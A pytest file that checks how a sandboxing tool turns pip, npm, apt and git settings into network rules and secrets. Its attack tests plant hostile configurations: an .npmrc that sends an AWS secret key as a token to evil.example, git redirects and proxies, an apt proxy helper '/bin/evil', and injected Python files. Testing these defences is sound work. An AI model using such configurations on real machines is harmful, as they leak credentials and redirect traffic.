"""Presets, read by asking the real pip, npm, apt and git of this machine with made-up homes and settings."""

from __future__ import annotations

import base64
import contextlib
import os
import shutil
import ssl
import subprocess
import sys
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from ipaddress import ip_address
from pathlib import Path

import pytest

from skerry.client.presets import KNOWN, Machine, read_presets
from skerry.client.presets.pip import parse_settings
from skerry.client.presets.remembered import remembered
from skerry.errors import InvalidRequest
from skerry.network.rules import check_rules
from skerry.types import Network, Preset, SecretValue
from skerry.types.hosts import Address

BUNDLE = Path("/etc/ssl/certs/ca-certificates.crt")


@dataclass(frozen=True)
class Quiet(Machine):
    """This machine with no network: names are where `where` puts them, and no index is asked where its files lie."""

    where: dict[str, str] = field(default_factory=dict)

    def addresses(self, host: str) -> tuple[Address, ...]:
        return (ip_address(self.where.get(host, "203.0.113.9")),)

    def ask(self, *argv: str, here: bool = False, variables: Mapping[str, str] | None = None) -> str | None:
        return None if "--dry-run" in argv or "view" in argv else super().ask(*argv, here=here, variables=variables)


Make = Callable[..., Quiet]


@pytest.fixture
def machine(tmp_path: Path) -> Make:
    def make(where: dict[str, str] | None = None, **variables: str) -> Quiet:
        home, cwd = tmp_path / "home", tmp_path / "work"
        for path in (home, cwd):
            path.mkdir(exist_ok=True)
        base = {"PATH": os.environ["PATH"], "HOME": str(home), "PIP_CONFIG_FILE": "/dev/null"}
        return Quiet({**base, **variables}, cwd, where or {})

    return make


def needs(program: str) -> pytest.MarkDecorator:
    return pytest.mark.skipif(shutil.which(program) is None, reason=f"no {program} on this machine")


def one(name: str, machine: Machine) -> tuple[Preset, tuple[SecretValue, ...]]:
    (preset,), secrets = read_presets([name], machine)
    return preset, secrets


def certificate(path: Path) -> str:
    """A certificate that no distribution has."""
    subprocess.run(
        ["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-subj",
         "/CN=ours", "-keyout", str(path.with_suffix(".key")), "-out", str(path)],
        check=True, capture_output=True, timeout=30,
    )  # fmt: skip
    return ssl.DER_cert_to_PEM_cert(ssl.PEM_cert_to_DER_cert(path.read_text()))


def test_an_unknown_preset_is_told_which_there_are(machine: Make) -> None:
    with pytest.raises(InvalidRequest, match=r"there is no 'gem'") as caught:
        read_presets(["gem"], machine())
    assert caught.value.hint == "there are pip, npm, apt, git"
    with pytest.raises(InvalidRequest) as caught:
        read_presets(("pip,npm",))
    assert caught.value.hint == "there are pip, npm, apt, git; each is named by itself"
    assert KNOWN == ("pip", "npm", "apt", "git")


def test_a_preset_that_was_read_already_stays_as_it_is(machine: Make) -> None:
    given = Preset(name="mine", allow=("a.example",))
    assert read_presets([given, given], machine()) == ((given,), ())
    assert read_presets([], machine()) == ((), ())


@pytest.mark.parametrize("name", KNOWN)
def test_a_client_that_is_not_there_is_an_error_that_says_so(name: str, machine: Make, tmp_path: Path) -> None:
    with pytest.raises(InvalidRequest, match=f"network.presets: {name}: there is no {name} on this machine"):
        one(name, machine(PATH=str(tmp_path)))


@needs("pip")
def test_pips_indexes_are_allowed_and_carried_inside(machine: Make) -> None:
    here = machine(
        PIP_INDEX_URL="https://mirror.example/simple", PIP_EXTRA_INDEX_URL="http://other.example:8080/x file:///srv/x",
        PIP_FIND_LINKS="/opt/wheels https://links.example/w", PIP_TRUSTED_HOST="other.example:8080",
    )  # fmt: skip
    preset, secrets = one("pip", here)
    assert preset.allow == ("mirror.example:443", "other.example:8080", "links.example:443")
    assert preset.env == {
        "PIP_INDEX_URL": "https://mirror.example/simple", "PIP_EXTRA_INDEX_URL": "http://other.example:8080/x",
        "PIP_FIND_LINKS": "https://links.example/w", "PIP_TRUSTED_HOST": "other.example:8080",
    }  # fmt: skip
    assert (secrets, preset.proxy) == ((), None)


@needs("pip")
def test_pips_own_files_are_read_and_its_password_is_a_secret(machine: Make) -> None:
    here = machine(PIP_CONFIG_FILE="")
    file = here.home / ".config/pip/pip.conf"
    file.parent.mkdir(parents=True)
    file.write_text("[global]\nindex-url = https://me:p%40ssw0rd@mirror.example:8443/simple\n[install]\ntimeout = 7\n")
    preset, secrets = one("pip", here)
    assert "mirror.example:8443" in preset.allow
    assert preset.env["PIP_INDEX_URL"] == "https://mirror.example:8443/simple"
    assert preset.env["PIP_DEFAULT_TIMEOUT"] == "7"
    (secret,) = secrets
    assert (secret.basic, secret.value, secret.hosts) == ("me", "p@ssw0rd", ("mirror.example:8443",))
    assert "p@ssw0rd" not in repr((preset, secrets))
    assert "p%40ssw0rd" not in repr(preset)


@needs("pip")
def test_a_token_in_the_users_place_signs_in_too(machine: Make) -> None:
    for login, sent in (("t0ken", b"t0ken:"), ("me:short", b"me:short")):
        _, (secret,) = one("pip", machine(PIP_INDEX_URL=f"https://{login}@mirror.example/simple"))
        assert secret.header == "Authorization: Basic {}"
        assert base64.b64decode(secret.value) == sent


@needs("pip")
def test_a_password_without_tls_is_refused(machine: Make) -> None:
    with pytest.raises(InvalidRequest, match="without TLS") as caught:
        one("pip", machine(PIP_INDEX_URL="http://me:hidden@mirror.example/simple"))
    assert "hidden" not in str(caught.value)


@needs("pip")
def test_a_pip_that_is_not_set_up_goes_where_it_would_go_itself(machine: Make) -> None:
    preset, _ = one("pip", machine())
    assert len(preset.allow) == 1
    assert preset.allow[0].endswith(":443")
    assert "PIP_INDEX_URL" not in preset.env


@needs("pip")
def test_an_index_that_is_a_directory_here_is_not_replaced_by_pips_own_inside(machine: Make) -> None:
    preset, _ = one(
        "pip", machine(PIP_INDEX_URL="file:///srv/simple", PIP_EXTRA_INDEX_URL="https://a.example/ https://b.example/")
    )
    assert preset.allow == ("a.example:443", "b.example:443")
    assert preset.env == {"PIP_INDEX_URL": "https://a.example/", "PIP_EXTRA_INDEX_URL": "https://b.example/"}
    preset, _ = one("pip", machine(PIP_INDEX_URL="file:///srv/simple", PIP_FIND_LINKS="https://links.example/"))
    assert preset.env == {"PIP_FIND_LINKS": "https://links.example/", "PIP_NO_INDEX": "1"}


@needs("pip")
def test_a_pip_that_only_has_files_is_an_error(machine: Make) -> None:
    with pytest.raises(InvalidRequest, match="files of this machine only"):
        one("pip", machine(PIP_NO_INDEX="1", PIP_FIND_LINKS="/opt/wheels"))


@needs("pip")
@pytest.mark.parametrize(("address", "rule"), [
    ("10.1.2.3", "mirror.internal:443@10.1.2.3"), ("fd00:1::5", "mirror.internal:443@fd00:1::5"),
    ("203.0.113.9", "mirror.internal:443"),
])  # fmt: skip
def test_a_mirror_at_a_private_address_gets_a_rule_that_names_it(address: str, rule: str, machine: Make) -> None:
    here = machine({"mirror.internal": address}, PIP_INDEX_URL="https://mirror.internal/simple")
    assert one("pip", here)[0].allow == (rule,)


@needs("pip")
@pytest.mark.parametrize("address", ["127.0.0.1", "169.254.169.254", "::1"])
def test_a_mirror_at_an_address_that_means_another_inside_is_an_error(address: str, machine: Make) -> None:
    with pytest.raises(InvalidRequest, match="means something else inside"):
        one("pip", machine({"localhost": address}, PIP_INDEX_URL="http://localhost:3141/simple"))


@needs("pip")
def test_a_proxy_is_allowed_and_leads_to_the_hosts_behind_it(machine: Make) -> None:
    where = {"proxy.internal": "10.0.0.1", "mirror.example": "127.0.0.1"}
    for variables in ({"PIP_PROXY": "http://proxy.internal:3128"}, {"https_proxy": "proxy.internal:3128"}):
        preset, _ = one("pip", machine(where, PIP_INDEX_URL="https://mirror.example/simple", **variables))
        assert preset.proxy == "http://proxy.internal:3128"
        assert preset.allow == ("proxy.internal:3128@10.0.0.1", "mirror.example:443")
    direct = machine(
        PIP_INDEX_URL="https://a.mirror.example/", https_proxy="http://p.example:1", no_proxy=".mirror.example"
    )
    assert one("pip", direct)[0].proxy is None
    mixed = machine(where, PIP_INDEX_URL="https://far.example/", PIP_EXTRA_INDEX_URL="https://near.corp/",
                    https_proxy="http://proxy.internal:3128", no_proxy="corp")  # fmt: skip
    through, near = read_presets(["pip"], mixed)[0]
    assert (through.allow, through.proxy) == (
        ("proxy.internal:3128@10.0.0.1", "far.example:443"),
        "http://proxy.internal:3128",
    )
    assert (near.name, near.allow, near.proxy) == ("pip-direct", ("near.corp:443",), None)
    local = machine({"localhost": "127.0.0.1"}, PIP_INDEX_URL="https://a.example/", PIP_PROXY="http://localhost:3128")
    assert one("pip", local)[0].allow == ("localhost:3128@127.0.0.1", "a.example:443")
    with pytest.raises(InvalidRequest, match="two proxies"):
        one("pip", machine(PIP_INDEX_URL="https://a.example/", PIP_EXTRA_INDEX_URL="http://b.example/",
                           https_proxy="http://p.example:1", http_proxy="http://q.example:1"))  # fmt: skip
    for proxy in ("http://me:pw@p.example:1", "socks5://p.example:1"):
        with pytest.raises(InvalidRequest, match="proxy"):
            one("pip", machine(PIP_INDEX_URL="https://a.example/", PIP_PROXY=proxy))


@needs("openssl")
@needs("pip")
def test_certificates_that_only_this_machine_trusts_go_along(machine: Make, tmp_path: Path) -> None:
    mine, company = certificate(tmp_path / "pip.crt"), certificate(tmp_path / "company.crt")
    here = machine(PIP_INDEX_URL="https://a.example/", PIP_CERT=str(tmp_path / "pip.crt"),
                   SSL_CERT_FILE=str(tmp_path / "company.crt"))  # fmt: skip
    preset, _ = one("pip", here)
    assert mine in preset.certificates
    assert company in preset.certificates
    if Path("/usr/share/ca-certificates").is_dir() and BUNDLE.exists():
        assert preset.certificates.count("BEGIN") < BUNDLE.read_text().count("BEGIN"), "what every image has stays here"


def test_pips_settings_are_read_as_pip_ranks_them() -> None:
    said = "global.index-url='https://g.example/'\ninstall.index-url='https://i.example/'\nglobal.extra-index-url='\\na\\nb'\n"
    assert parse_settings(said) == {"index-url": "https://i.example/", "extra-index-url": "\na\nb"}
    assert parse_settings(":env:.index-url='https://e.example/'\n" + said)["index-url"] == "https://e.example/"
    assert parse_settings("WARNING: x\nglobal.index-url=__import__('os')\n") == {}


@needs("npm")
def test_npms_registries_and_logins(machine: Make) -> None:
    here = machine({"npm.internal": "10.9.9.9"}, MY_TOKEN="s3cret-token")
    (here.home / ".npmrc").write_text(
        "registry=https://npm.internal/root/\n@ours:registry=https://scoped.example:8443/\n"
        "//npm.internal/root/:_authToken=${MY_TOKEN}\n//elsewhere.example/:_authToken=other\n"
        f"//scoped.example:8443/:username=me\n//scoped.example:8443/:_password={base64.b64encode(b'password').decode()}\n"
    )
    preset, secrets = one("npm", here)
    assert preset.allow == ("npm.internal:443@10.9.9.9", "scoped.example:8443")
    assert preset.env["NPM_CONFIG_REGISTRY"] == "https://npm.internal/root/"
    assert preset.files == {"npmrc": "@ours:registry=https://scoped.example:8443/\n"}
    assert preset.env["NPM_CONFIG_GLOBALCONFIG"] == "/run/skerry/presets/npmrc"
    token, login = secrets
    assert (token.header, token.value, token.hosts) == ("Authorization: Bearer {}", "s3cret-token", ("npm.internal",))
    assert (login.basic, login.value, login.hosts) == ("me", "password", ("scoped.example:8443",))
    assert token.name != login.name
    assert "s3cret" not in repr(preset)


@needs("npm")
def test_attack_a_projects_own_npmrc_opens_nothing_and_has_no_variable_sent_anywhere(machine: Make) -> None:
    here = machine({"evil.example": "10.0.0.1"}, AWS_SECRET_ACCESS_KEY="very-secret-key")
    (here.cwd / "package.json").write_text("{}")
    (here.cwd / ".npmrc").write_text(
        "registry=https://evil.example/\n@x:registry=https://evil.example/\n"
        "//evil.example/:_authToken=${AWS_SECRET_ACCESS_KEY}\n"
    )
    preset, secrets = one("npm", here)
    assert not any("evil" in rule for rule in preset.allow)
    assert secrets == ()
    assert "evil" not in repr(preset)


@needs("pip")
def test_attack_no_program_of_the_project_runs_when_a_preset_is_read(machine: Make, tmp_path: Path) -> None:
    here = machine(PIP_INDEX_URL="https://a.example/")
    for name in ("pip.py", "json.py", "sitecustomize.py"):
        (here.cwd / name).write_text(f"open({str(tmp_path / 'ran')!r}, 'w')\n")
    only_python = tmp_path / "bin"
    only_python.mkdir()
    (only_python / "python3").symlink_to(sys.executable)
    for path in (here.environ["PATH"], str(only_python)):
        with contextlib.suppress(InvalidRequest):  # a python3 that has no pip
            one("pip", Quiet({**here.environ, "PATH": path}, here.cwd))
    assert not (tmp_path / "ran").exists()


@needs("npm")
def test_an_npm_that_is_not_set_up_goes_where_it_would_go_itself(machine: Make) -> None:
    preset, secrets = one("npm", machine())
    assert len(preset.allow) == 1
    assert secrets == ()


@needs("npm")
def test_npms_proxy_and_what_it_leaves_out(machine: Make) -> None:
    variables = {"npm_config_registry": "https://npm.example/", "npm_config_https_proxy": "http://proxy.example:3128"}
    assert one("npm", machine(**variables))[0].proxy == "http://proxy.example:3128"
    assert one("npm", machine(**variables, npm_config_noproxy="npm.example"))[0].proxy is None


def apt_machine(machine: Make, tmp_path: Path, sources: str, settings: str = "", **files: str) -> Quiet:
    etc = tmp_path / "apt"
    for directory in ("sources.list.d", "apt.conf.d", "auth.conf.d"):
        (etc / directory).mkdir(parents=True)
    (etc / "sources.list.d/a.sources").write_text(sources)
    for name, text in files.items():
        (etc / name.replace("__", ".").replace("_at_", "/")).write_text(text)
    config = tmp_path / "apt.conf"
    config.write_text(f'Dir::Etc "{etc}";\nDir::State "{tmp_path}";\nDir::Cache "{tmp_path}";\n{settings}')
    return machine(APT_CONFIG=str(config))


STANZA = "Types: deb\nURIs: {}\nSuites: stable\nComponents: main\nSigned-By: /x.gpg\n\n"


@needs("apt-get")
def test_apts_archives_of_every_kind_of_source(machine: Make, tmp_path: Path) -> None:
    mirrors = tmp_path / "mirrors.txt"
    mirrors.write_text(
        "# ours\nhttps://m1.example/debian priority:1\nhttp://m2.example:8080/debian\nfile:/srv/debian\n"
    )
    here = apt_machine(
        machine, tmp_path,
        STANZA.format("http://deb.example/debian") + STANZA.format("file:/srv/debian") + "Enabled: no\n"
        + STANZA.format("http://off.example/debian") + STANZA.format(f"mirror+file:{mirrors}"),
        'Acquire::Check-Valid-Until "false";\nAcquire::http::Proxy-Auto-Detect "/bin/evil";\nAcquire::Retries "3";\n',
        sources__list="deb [arch=amd64] https://one.example/x stable main\n#deb http://no.example x y\n",
    )  # fmt: skip
    preset, secrets = one("apt", here)
    assert set(preset.allow) == {"one.example:443", "deb.example:80", "m1.example:443", "m2.example:8080"}
    assert preset.env == {"APT_CONFIG": "/run/skerry/presets/apt.conf"}
    carried = preset.files["apt.conf"]
    assert 'Acquire::Check-Valid-Until "false";\n' in carried
    assert 'Acquire::Retries "3";\n' in carried
    assert "evil" not in carried
    assert secrets == ()


@needs("apt-get")
def test_apts_proxy_and_logins(machine: Make, tmp_path: Path) -> None:
    here = apt_machine(
        machine, tmp_path, STANZA.format("https://me:password@deb.example/debian https://two.example/x"),
        'Acquire::https::Proxy "http://proxy.example:3142";\n',
        auth__conf="machine two.example/x login you password wordword\nmachine else.example login a password b\n",
    )  # fmt: skip
    preset, secrets = one("apt", here)
    assert preset.proxy == "http://proxy.example:3142"
    assert preset.allow[0] == "proxy.example:3142"
    assert [(s.basic, s.value, s.hosts) for s in secrets] == [
        ("me", "password", ("deb.example",)), ("you", "wordword", ("two.example",)),
    ]  # fmt: skip
    assert "password" not in repr(preset)


@needs("apt-get")
def test_an_apt_with_local_archives_only_is_an_error(machine: Make, tmp_path: Path) -> None:
    with pytest.raises(InvalidRequest, match="no archive on the network"):
        one("apt", apt_machine(machine, tmp_path, STANZA.format("file:/srv/debian")))


@needs("git")
def test_gits_hosts_come_from_its_configuration_and_the_repository_here(machine: Make, tmp_path: Path) -> None:
    here = machine({"git.internal": "10.0.0.7"}, GIT_CONFIG_NOSYSTEM="1")
    (here.home / ".gitconfig").write_text(
        '[url "https://me:t0kent0ken@git.internal/"]\n\tinsteadOf = "gh:"\n[credential "https://cred.example"]\n'
        "\thelper = x\n"
        '[http "https://head.example/"]\n\textraHeader = "AUTHORIZATION: basic c2VjcmV0"\n[http "https://*.star.example"]\n'
        "\tsslVerify = true\n"
    )
    subprocess.run(["git", "init", "-q", str(here.cwd)], check=True, timeout=20)
    for name, url in (("origin", "git@ssh.example:team/repo.git"), ("up", "ssh://git@ssh2.example:2222/x"),
                      ("path", "/srv/repo.git"), ("web", "http://plain.example/x.git")):  # fmt: skip
        subprocess.run(["git", "-C", str(here.cwd), "remote", "add", name, url], check=True, timeout=20)
    preset, secrets = one("git", here)
    assert set(preset.allow) == {
        "git.internal:443@10.0.0.7", "cred.example:443", "head.example:443", "ssh.example:22", "ssh2.example:2222",
        "plain.example:80",
    }  # fmt: skip
    assert preset.env == {
        "GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "url.https://git.internal/.insteadof", "GIT_CONFIG_VALUE_0": "gh:",
    }  # fmt: skip
    assert {(s.hosts, s.basic, s.header, s.value) for s in secrets} == {
        (("git.internal",), "me", None, "t0kent0ken"), (("head.example",), None, "AUTHORIZATION: basic {}", "c2VjcmV0"),
    }  # fmt: skip


@needs("git")
def test_attack_the_repository_here_brings_its_remotes_and_neither_a_proxy_nor_headers(machine: Make) -> None:
    here = machine(GIT_CONFIG_NOSYSTEM="1")
    subprocess.run(["git", "init", "-q", str(here.cwd)], check=True, timeout=20)
    with (here.cwd / ".git/config").open("a") as file:
        file.write('[remote "origin"]\n\turl = https://git.example/x\n[http]\n\tproxy = http://127.0.0.1:6379\n'
                   '[url "https://evil.example/"]\n\tinsteadOf = "https://git.example/"\n'
                   '[http "https://evil2.example/"]\n\textraHeader = "X: 12345678"\n')  # fmt: skip
    preset, secrets = one("git", here)
    assert (preset.allow, preset.proxy, preset.env, secrets) == (("git.example:443",), None, {}, ())


@needs("git")
def test_a_git_that_names_no_host_is_an_error(machine: Make) -> None:
    with pytest.raises(InvalidRequest, match="name no host"):
        one("git", machine(GIT_CONFIG_NOSYSTEM="1"))


def test_a_slow_answer_is_kept_for_the_next_time_without_any_password(machine: Make) -> None:
    here, asked = machine(), []

    def look() -> list[str]:
        asked.append(1)
        return ["https://files.example/"]

    for _ in range(2):
        assert remembered(here, "pip https://me:pw@mirror.example/", look) == ["https://files.example/"]
    assert len(asked) == 1
    kept = [path for path in here.home.rglob("*") if path.is_file()]
    assert kept
    assert not any("pw@" in path.read_text() or "mirror" in path.name for path in kept)
    assert remembered(here, "other", lambda: None) == []


@needs("pip")
def test_every_rule_of_a_preset_is_one_that_the_server_takes(machine: Make) -> None:
    here = machine({"a.example": "10.0.0.1", "[fd00::7]": "fd00::7"}, PIP_INDEX_URL="https://a.example/",
                   PIP_EXTRA_INDEX_URL="https://[fd00::7]:8443/x", PIP_PROXY="")  # fmt: skip
    preset, _ = one("pip", here)
    check_rules(Network(presets=(preset,)))
    assert preset.allow == ("a.example:443@10.0.0.1", "[fd00::7]:8443")
